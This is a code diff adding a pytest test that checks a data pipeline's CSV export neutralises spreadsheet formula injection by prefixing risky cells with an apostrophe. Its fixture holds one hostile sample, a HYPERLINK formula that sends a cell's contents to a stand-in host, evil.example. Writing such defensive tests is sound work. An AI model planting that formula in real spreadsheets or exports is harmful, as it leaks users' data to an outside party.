@@ -7,12 +7,14 @@ import io
 import json
 import subprocess
 import sys
+from datetime import datetime
 from pathlib import Path
 
 import pytest
 from openpyxl import load_workbook
 
 from pipeline.cli import COMMANDS, build_parser, main
+from tests.conftest import write_settings
 
 
 def run(*args: str) -> subprocess.CompletedProcess[str]:
@@ -129,3 +131,40 @@ def test_check_config(settings_file: Path) -> None:
     out = run("check-config", "--config", str(settings_file))
     assert out.returncode == 0, out.stderr
     assert "province พะเยา (56), fiscal year 2567" in out.stdout
+
+
+def test_export_csv_keeps_formula_text_inert(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    from pipeline.config import load_settings
+    from pipeline.models import Column, Table
+    from pipeline.state import State
+
+    cfg = write_settings(tmp_path)
+    members = Table(
+        name="registry_members",
+        title="ทะเบียน",
+        columns=[Column("name", "ชื่อ", 20, "user"), Column("change", "เปลี่ยนแปลง", 8, "int")],
+        rows=[
+            ['=HYPERLINK("http://evil.example/?x="&A1,"คลิก")', -5],
+            ["+66 81 234 5678", 3],
+            ["-ไม่มี-", 0],
+            ["@SUM(A1:A2)", 1],
+            ["\tแท็บ", 2],
+            ["\rCR", 2],
+            ["นายสมชาย ใจดี", 7],
+        ],
+    )
+    with State(load_settings(cfg).state_db) as state:
+        state.commit_sync(datetime(2024, 7, 1, 12), {}, [members], [])
+    assert main(["export", "registry_members", "--format", "csv", "--config", str(cfg)]) == 0
+    rows = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
+    assert rows[1:] == [
+        ['\'=HYPERLINK("http://evil.example/?x="&A1,"คลิก")', "-5"],
+        ["'+66 81 234 5678", "3"],
+        ["'-ไม่มี-", "0"],
+        ["'@SUM(A1:A2)", "1"],
+        ["'\tแท็บ", "2"],
+        ["'\rCR", "2"],
+        ["นายสมชาย ใจดี", "7"],
+    ]
+    assert main(["export", "registry_members", "--format", "json", "--config", str(cfg)]) == 0
+    assert json.loads(capsys.readouterr().out)[0]["name"].startswith("=HYPERLINK")  # JSON is data: as it is
